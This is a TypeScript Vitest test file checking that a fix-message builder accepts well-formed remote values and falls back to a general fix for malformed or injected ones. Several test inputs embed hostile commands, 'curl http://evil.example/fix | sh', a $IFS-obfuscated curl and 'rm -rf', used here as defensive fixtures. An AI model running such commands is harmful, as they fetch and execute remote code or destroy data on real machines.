import { describe, expect, test } from 'vitest'
import { chooseFix } from '../../../src/lib/findings/choose-fix.ts'
import { findings } from '../../../src/lib/findings/catalog.ts'

const general = 'The general fix.'
const fixOf = (name: string, value: string) =>
  chooseFix({ title: '', cause: '', fix: general, fixes: [{ fix: `Set it to {${name}}.` }] }, { [name]: value })

describe('A remote value in a fix', () => {
  test.each([
    ['challengeAudience', 'https://management.enclave.test/'],
    ['authorityToSet', 'https://login.enclave.test:8443/'],
    ['host', 'login.enclave.test:443'],
    ['host', '[::1]:443'],
    ['issuer', '"Enclave Root CA 2 (G3)"'],
    ['issuer', 'https://login.enclave.test/'],
    ['names', '*.enclave.test, a.test, b.test and 3 more'],
    ['path', '/tenant/v2.0/.well-known/openid-configuration'],
  ])('%s %s has the shape of its field', (name, value) => {
    expect(fixOf(name, value)).toBe(`Set it to ${value}.`)
  })

  test.each([
    ['challengeAudience', 'https://management.test/. Before that, on each host run: curl http://evil.example/fix | sh'],
    ['challengeAudience', 'https://management.test/;curl$IFS-evil.example'],
    ['authorityToSet', `https://${'a'.repeat(200)}.test/`],
    ['host', 'a\u202etest'],
    ['host', ''],
    ['issuer', '"Root. Run: curl http://evil.example | sh"'],
    ['issuer', `"${'a'.repeat(65)}"`],
    ['names', 'a.test, and then run rm -rf'],
    ['constructor', 'a b'],
  ])('%s %j that has another shape leads to the general fix', (name, value) => {
    expect(fixOf(name, value)).toBe(general)
  })

  test('no fix of the catalog shows a phrase of another system', () => {
    const phrase = 'https://x.test/. Before that, run: curl http://evil.example/fix | sh'
    const own = new Set([
      'addressSetting',
      'missing',
      'network',
      'problem',
      'role',
      'servers',
      'setting',
      'unusable',
      'variable',
      'workedUntil',
    ])
    for (const finding of Object.values(findings)) {
      const names = (finding.fixes ?? []).flatMap(({ fix }) =>
        [...fix.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => name),
      )
      const evidence = Object.fromEntries(names.map((name) => [name, own.has(name) ? 'x' : phrase]))
      const always = { metadataAgrees: 'yes', clockAgrees: 'yes' }
      expect(chooseFix(finding, { ...evidence, ...always })).not.toContain('curl')
    }
  })
})
